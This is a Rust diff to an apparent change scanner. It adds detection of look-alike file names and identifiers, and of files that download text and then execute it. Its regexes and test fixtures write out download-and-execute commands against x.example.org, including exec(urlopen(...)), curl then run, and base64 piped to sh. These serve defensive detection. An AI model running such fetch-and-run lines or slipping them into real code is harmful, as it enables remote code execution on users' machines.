@@ -66,6 +66,9 @@ pub fn find_harmful<'a>(
     let mut found = Vec::new();
     for file in files {
         let path = file.change.path.as_str();
+        if file.before.is_none() && reads_as_another(path) {
+            found.push(finding(path, "a name that reads as another one".to_owned(), None));
+        }
         let name = path.rsplit('/').next().unwrap_or(path).to_ascii_lowercase();
         if LOCKS.contains(&format!(" {name} ")) {
             found.extend(lock_moved(path, file));
@@ -269,7 +272,7 @@ fn deceptive_text(file: &AddedLines) -> Vec<SensitivePath> {
         let is_odd = |c: char| is_invisible_character(c) && !matches!(c, '\u{fe0f}' | '\u{feff}' | '\u{200d}');
         if line.text.chars().any(is_odd) {
             found.push(place("invisible or bidirectional characters"));
-        } else if !is_prose && has_mixed_word(&line.text) {
+        } else if !is_prose && reads_as_another(&line.text) {
             found.push(place("an identifier that mixes scripts"));
         }
         if line.text.contains('\u{200d}') && joins_letters(&line.text) {
@@ -279,7 +282,12 @@ fn deceptive_text(file: &AddedLines) -> Vec<SensitivePath> {
             found.push(place("a download that is executed"));
         }
     }
-    if !is_prose && let Some(number) = runs_saved_download(file) {
+    let executes = || runs_saved_download(file).or_else(|| runs_downloaded_text(file));
+    let is_known = found.iter().any(|one| one.why.starts_with("a download that is executed"));
+    if !is_prose
+        && !is_known
+        && let Some(number) = executes()
+    {
         found.push(finding(&file.path, format!("a download that is executed (line {number})"), None));
     }
     found.truncate(FOUND_MAX);
@@ -312,6 +320,30 @@ fn runs_saved_download(file: &AddedLines) -> Option<u32> {
     let runs: Vec<Regex> = runs.collect();
     let mut later = file.lines.iter().filter(|line| !SAVED.is_match(&line.text));
     later.find(|line| runs.iter().any(|run| run.is_match(&line.text))).map(|line| line.number)
+}
+
+/// The line that runs a text as code in a file whose added lines also download one.
+fn runs_downloaded_text(file: &AddedLines) -> Option<u32> {
+    static DOWNLOADS: LazyLock<Regex> = LazyLock::new(|| {
+        pattern(
+            r#"\b(?:urlopen|urlretrieve|HTTPSConnection|requests\.get|httpx\.get|https?\.get|fetch)\s*\(|["'](?:curl|wget)["']|^\s*(?:curl|wget)\s"#,
+        )
+    });
+    static RUNS: LazyLock<Regex> = LazyLock::new(|| {
+        pattern(
+            r#"(?:^|[^.\w])(?:exec|eval)\s*\(|\bexec_module\b|\brunpy\b|\bnew\s+Function\s*\(|\bvm\b["')]*\s*\.\s*(?:run|Script|compile)|\brunIn(?:This|New)?Context\b|\bnew\(\s*["'](?:/\S*/)?(?:ba|z|da)?sh["']|^\s*chmod\s+(?:\S*x|0?7\d\d)\s+["']?(?:/tmp|\$)"#,
+        )
+    });
+    let downloads = file.lines.iter().any(|line| DOWNLOADS.is_match(&line.text));
+    let mut runs = file.lines.iter().filter(|line| RUNS.is_match(&line.text));
+    runs.find(|_| downloads).map(|line| line.number)
+}
+
+/// Whether a text has a word that mixes scripts, or letters that compilers read as plain ones.
+fn reads_as_another(line: &str) -> bool {
+    // Full-width and mathematical letters: Python reads them as the plain letters.
+    let is_styled = |c: char| matches!(u32::from(c), 0xFF21..=0xFF3A | 0xFF41..=0xFF5A | 0x1D400..=0x1D7FF);
+    has_mixed_word(line) || line.chars().any(is_styled)
 }
 
 /// A word with Latin letters and letters of a script that looks like Latin.
@@ -356,6 +388,12 @@ mod tests {
             ("tools/a.sh", "curl -so inst https://x.example.org/i\n./inst --yes\n"),
             ("tools/a", "echo ZWNobwo= | base64 -d | sh\n"),
             ("tools/a.py", "exec(urllib.request.urlopen('https://x.example.org/a.py').read())\n"),
+            (
+                "tools/a.py",
+                "path, _ = urllib.request.urlretrieve('https://x.example.org/a')\nspec.loader.exec_module(module)\n",
+            ),
+            ("tools/a.js", "https.get(url, keep);\nrequire(\"node:vm\").runInThisContext(text);\n"),
+            ("build.rs", "Command::new(\"curl\").arg(u).status();\nCommand::new(\"sh\").arg(\"/tmp/a\").status();\n"),
             ("tools/a.js", "fetch('https://x.example.org').then((a) => a.text()).then((t) => (0, eval)(t));\n"),
         ] {
             let found = found(path, None, text);
@@ -369,6 +407,13 @@ mod tests {
         ] {
             assert_eq!(found("tools/a.sh", None, text), Vec::<String>::new(), "{text}");
         }
+    }
+
+    #[test]
+    fn names_and_words_that_read_as_others_are_found() {
+        assert_eq!(found("t\u{43e}ols/run.sh", None, "echo\n"), ["a name that reads as another one"]);
+        assert_eq!(found("src/b.py", None, "\u{ff45}xec = 1\n").len(), 1);
+        assert_eq!(found("docs/\u{43f}\u{440}.md", None, "text\n"), Vec::<String>::new());
     }
 
     #[test]
